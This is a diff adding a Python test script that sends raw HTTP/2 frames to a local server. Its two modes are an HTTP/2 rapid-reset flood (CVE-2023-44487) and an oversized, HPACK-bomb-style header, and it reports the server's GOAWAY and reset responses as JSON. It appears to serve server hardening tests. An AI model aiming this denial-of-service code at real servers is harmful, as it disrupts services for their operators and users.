@@ -1,0 +1,73 @@
+#!/usr/bin/env python3
+"""HTTP/2 abuse for tests, with raw frames over TLS (ALPN h2):
+  rapid-reset PORT N   opens N streams, resetting each at once (CVE-2023-44487)
+  big-header PORT SIZE sends one request whose header list is SIZE bytes (HPACK bomb shape)
+Prints one JSON line: what came back (GOAWAY error code, RST_STREAM codes, responses, closed)."""
+import json, socket, ssl, struct, sys, time
+
+mode, port, n = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
+ctx = ssl.create_default_context()
+ctx.check_hostname = False
+ctx.verify_mode = ssl.CERT_NONE
+ctx.set_alpn_protocols(["h2"])
+sock = ctx.wrap_socket(socket.create_connection(("127.0.0.1", port), timeout=10), server_hostname="localhost")
+assert sock.selected_alpn_protocol() == "h2", sock.selected_alpn_protocol()
+
+def frame(kind, flags, stream, payload=b""):
+    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload
+
+def literal(name, value):
+    # Literal header field without indexing, new name (RFC 7541 6.2.2), 7-bit lengths extended as needed.
+    def string(b):
+        if len(b) < 127:
+            return bytes([len(b)]) + b
+        out, rest = bytearray([127]), len(b) - 127
+        while rest >= 128:
+            out.append((rest % 128) + 128)
+            rest //= 128
+        out.append(rest)
+        return bytes(out) + b
+    return b"\x00" + string(name) + string(value)
+
+request = b"\x82\x87\x84" + literal(b":authority", b"localhost")  # GET https /
+sock.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0))
+out = bytearray()
+if mode == "rapid-reset":
+    for i in range(n):
+        stream = 1 + 2 * i
+        out += frame(1, 0x5, stream, request) + frame(3, 0, stream, struct.pack(">I", 8))  # HEADERS, RST_STREAM(CANCEL)
+else:
+    out += frame(1, 0x5, 1, request + literal(b"x-big", b"a" * n))
+try:
+    sock.sendall(bytes(out))
+except OSError:
+    pass
+result = {"goaway": None, "rst_codes": [], "responses": 0, "closed": False}
+buffer = b""
+deadline = time.time() + 10
+try:
+    while time.time() < deadline:
+        data = sock.recv(65536)
+        if not data:
+            result["closed"] = True
+            break
+        buffer += data
+        while len(buffer) >= 9:
+            length = int.from_bytes(buffer[:3], "big")
+            if len(buffer) < 9 + length:
+                break
+            kind, payload = buffer[3], buffer[9:9 + length]
+            buffer = buffer[9 + length:]
+            if kind == 7:
+                result["goaway"] = int.from_bytes(payload[4:8], "big")
+            elif kind == 3:
+                result["rst_codes"].append(int.from_bytes(payload[:4], "big"))
+            elif kind == 1:
+                result["responses"] += 1
+            elif kind == 4 and not (buffer and False):
+                pass
+        if mode == "big-header" and (result["responses"] or result["rst_codes"] or result["goaway"] is not None):
+            break
+except (OSError, ssl.SSLError):
+    result["closed"] = True
+print(json.dumps(result))
